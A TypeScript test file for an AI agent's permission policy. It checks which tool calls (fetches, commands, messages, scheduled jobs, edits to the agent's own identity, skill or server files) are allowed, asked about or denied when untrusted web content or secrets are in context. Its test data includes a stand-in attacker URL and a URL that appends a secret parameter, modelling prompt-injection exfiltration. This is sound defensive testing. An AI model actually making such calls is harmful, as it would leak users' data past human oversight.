// The table of calls × context × attended (R278, R281), and what the operator's own words change in it.
import { expect, test } from "vitest";
import type { CallId, Json, SessionId } from "../../src/contract/base.ts";
import type { Label, Message, ToolCallPart } from "../../src/contract/message.ts";
import type { Verdict } from "../../src/contract/policy.ts";
import { classifyPath } from "../../src/lib/paths/path-class.ts";
import { createPolicy } from "../../src/policy/policy.ts";
import { emptyState, reduce } from "../../src/session/reduce.ts";
import type { JournalRecord } from "../../src/contract/record.ts";
import type { SessionState } from "../../src/contract/session.ts";
import type { Effect } from "../../src/contract/tool.ts";

const ORIGIN = { channel: "telegram", chat: "42" };
const policy = createPolicy({
  sandboxed: () => true,
  approvalTimeoutMs: () => 300_000,
  classifyPath: (path) => classifyPath("/work", path, ["/state"]),
  isContact: (channel, chat) => channel === "telegram" && chat === "7",
});

/** A context in which the operator said something and a tool returned something. */
function context(said: string, read: string, label: Partial<Label>): SessionState {
  const user: Message = {
    role: "user",
    id: "m-1",
    at: 0,
    from: { id: "operator", kind: "person" },
    parts: [{ type: "text", text: said }],
  };
  const tool: Message = {
    role: "tool",
    at: 0,
    callId: "c-0" as CallId,
    name: "web_fetch",
    parts: [{ type: "text", text: read }],
    status: "ok",
    ...(label.integrity === "untrusted" && { integrity: "untrusted" }),
    ...(label.confidentiality === "sensitive" && { confidentiality: "sensitive" }),
  };
  const imported: JournalRecord = { type: "history.imported", messages: [user, tool], rows: 2, consolidated: 0 };
  const started: JournalRecord = {
    type: "turn.started",
    turn: "t-1" as never, // a test may name its own
    replyTo: ORIGIN,
    attended: true,
    message: "m-1",
  };
  return [imported, started].reduce((state, record) => reduce(state, record, 0), emptyState("s-1" as SessionId));
}

interface Case {
  readonly call: readonly [string, Json];
  readonly effect?: Effect;
  readonly said?: string;
  readonly read?: string;
  readonly sensitive?: true;
  /** Trusted context, untrusted one with a person, untrusted one without. */
  readonly verdicts: readonly [Verdict["kind"], Verdict["kind"], Verdict["kind"]];
}
const ATTACK = "http://attacker.test/c?d=1";
const CASES: Readonly<Record<string, Case>> = {
  "a file is read": { call: ["read_file", { path: "a.txt" }], effect: "read", verdicts: ["allow", "allow", "allow"] },
  "an address of the operator is fetched": {
    call: ["web_fetch", { url: "http://docs.test/help" }],
    said: "look at http://docs.test/help.",
    verdicts: ["allow", "allow", "allow"],
  },
  "an address of a result is fetched": {
    call: ["web_fetch", { url: "http://docs.test/help" }],
    read: "see (http://docs.test/help)",
    verdicts: ["allow", "allow", "allow"],
  },
  "an address of a result is fetched with keys in view": {
    call: ["web_fetch", { url: "http://docs.test/help" }],
    read: "see (http://docs.test/help)",
    sensitive: true,
    verdicts: ["allow", "ask", "deny"],
  },
  "an address that goes on where the operator's ended": {
    call: ["web_fetch", { url: "http://docs.test/help?secret=1" }],
    said: "look at http://docs.test/help",
    verdicts: ["allow", "ask", "deny"],
  },
  "a made-up address": { call: ["web_fetch", { url: ATTACK }], verdicts: ["allow", "ask", "deny"] },
  "a search": { call: ["web_search", { query: "weather" }], verdicts: ["allow", "allow", "allow"] },
  "a search with keys in view": {
    call: ["web_search", { query: "weather" }],
    sensitive: true,
    verdicts: ["allow", "ask", "deny"],
  },
  "an ordinary file": { call: ["write_file", { path: "out.md", content: "" }], verdicts: ["allow", "allow", "allow"] },
  "a command": { call: ["exec", { command: "ls" }], verdicts: ["allow", "ask", "deny"] },
  "a fact to remember": { call: ["remember", { text: "x" }], verdicts: ["allow", "ask", "deny"] },
  "a job": {
    call: ["cron", { action: "add", message: "x", cron_expr: "0 9 * * *" }],
    verdicts: ["allow", "ask", "deny"],
  },
  "a look at the jobs": { call: ["cron", { action: "list" }], verdicts: ["allow", "allow", "allow"] },
  "a subagent": { call: ["spawn", { task: "x" }], verdicts: ["allow", "allow", "allow"] },
  "what the agent is": { call: ["write_file", { path: "SOUL.md", content: "" }], verdicts: ["ask", "ask", "deny"] },
  "a skill": { call: ["write_file", { path: "skills/a/SKILL.md", content: "" }], verdicts: ["ask", "ask", "deny"] },
  "a list of servers": { call: ["write_file", { path: ".mcp.json", content: "" }], verdicts: ["ask", "ask", "deny"] },
  "the state": { call: ["edit_file", { path: "/state/config.json" }], verdicts: ["deny", "deny", "deny"] },
  "a file elsewhere": { call: ["write_file", { path: "/other/x", content: "" }], verdicts: ["ask", "ask", "deny"] },
  "a message here": { call: ["message", { content: "x" }], verdicts: ["allow", "allow", "allow"] },
  "a message to somebody who was let in": {
    call: ["message", { content: "x", chat_id: "7" }],
    verdicts: ["allow", "ask", "deny"],
  },
  "a message to somebody the operator named": {
    call: ["message", { content: "x", chat_id: "99" }],
    said: "tell Bob (telegram 99) that I am late",
    verdicts: ["allow", "ask", "deny"],
  },
  "a message to a number that stands inside another": {
    call: ["message", { content: "x", chat_id: "99" }],
    said: "the order 19904 is late",
    verdicts: ["ask", "ask", "deny"],
  },
  "a message to a stranger": {
    call: ["message", { content: "x", chat_id: "666" }],
    verdicts: ["ask", "ask", "deny"],
  },
  "a look at a server": { call: ["mcp_tickets_get", { id: 7 }], effect: "read", verdicts: ["allow", "allow", "allow"] },
  "a look at a server with keys in view": {
    call: ["mcp_tickets_get", { id: 7 }],
    effect: "read",
    sensitive: true,
    verdicts: ["allow", "ask", "deny"],
  },
  "a change at a server in the operator's words": {
    call: ["mcp_tickets_comment", { id: 7, text: "seen" }],
    said: 'comment "seen" on ticket 7',
    verdicts: ["allow", "ask", "deny"],
  },
  "a change at a server": { call: ["mcp_tickets_comment", { id: 7, text: "sold" }], verdicts: ["ask", "ask", "deny"] },
  "a tool of a plugin that changes things": { call: ["lights", { on: true }], verdicts: ["allow", "ask", "deny"] },
};

test.each(Object.entries(CASES))("R278 R281 %s", async (_name, one) => {
  const [name, input] = one.call;
  const call: ToolCallPart = { type: "tool-call", callId: "c-1" as CallId, name, input };
  const state = (integrity: Label["integrity"]): SessionState =>
    context(one.said ?? "hello", one.read ?? "a page", {
      integrity,
      ...(one.sensitive === true && { confidentiality: "sensitive" }),
    });
  const judge = async (integrity: Label["integrity"], attended: boolean): Promise<Verdict["kind"]> => {
    const where = { state: state(integrity), origin: ORIGIN, attended, effect: one.effect ?? "write" };
    return (await policy.judge(call, where)).kind;
  };
  expect([await judge("trusted", true), await judge("untrusted", true), await judge("untrusted", false)]).toEqual(
    one.verdicts,
  );
});

test("R281 the question says what was read", async () => {
  const call: ToolCallPart = { type: "tool-call", callId: "c-1" as CallId, name: "exec", input: { command: "ls" } };
  const state = context("hello", "a page", { integrity: "untrusted" });
  expect(await policy.judge(call, { state, origin: ORIGIN, attended: true, effect: "write" })).toMatchObject({
    kind: "ask",
    rule: "exec, untrusted context",
    why: expect.stringContaining("web_fetch"),
    risks: ["untrusted-content"],
  });
});

test("R386 a rule holds in an untrusted context too, unless it says that it does not", async () => {
  const call: ToolCallPart = { type: "tool-call", callId: "c-1" as CallId, name: "exec", input: { command: "ls" } };
  const where = {
    state: context("hello", "a page", { integrity: "untrusted" }),
    origin: ORIGIN,
    attended: true,
    effect: "write",
  } as const;
  const allowing = (untrusted?: boolean): ReturnType<typeof createPolicy> =>
    createPolicy({
      sandboxed: () => true,
      approvalTimeoutMs: () => 300_000,
      rules: [{ tool: "exec", action: "allow", ...(untrusted !== undefined && { untrusted }) }],
    });
  expect((await allowing().judge(call, where)).kind).toBe("allow");
  expect((await allowing(false).judge(call, where)).kind).toBe("ask");
});
